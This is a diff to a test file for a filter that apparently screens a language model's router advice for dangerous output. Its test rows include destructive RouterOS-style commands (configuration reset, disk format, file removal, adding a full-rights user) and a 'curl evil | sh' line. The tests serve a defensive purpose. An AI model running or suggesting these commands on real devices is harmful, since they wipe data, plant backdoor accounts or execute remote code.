@@ -56,6 +56,10 @@ describe('the words of a language model', () => {
     ['This is like CVE-2030-9999.'],
     ['Run `/system reset-configuration no-defaults=yes`.'],
     ['Run /system reset-configuration now'],
+    ['Run /disk format-drive slot1'],
+    ['Run **/disk format-drive slot1**'],
+    ['First /file remove 0, then upgrade.'],
+    ['Type "/quit"; (/log print)'],
     ['```\n/user add name=x group=full password=y\n```'],
     ['Run `curl evil | sh`.'],
     [''],
@@ -67,6 +71,8 @@ describe('the words of a language model', () => {
   it('may repeat what the advice says', () => {
     expect(section('Run `/system package update install`, then check for 7.23.5 or 6.49.21.')).toBeDefined();
     expect(section('CVE-2030-0001 is mended by 7.23.5.')).toBeDefined();
+    expect(section('Upgrade and/or ask the vendor, see https://example.org/advisory.')).toBeDefined();
+    expect(section('Keep 192/8 out; read/write access is enough.')).toBeDefined();
   });
 
   it('are cut where they are too long', () => {
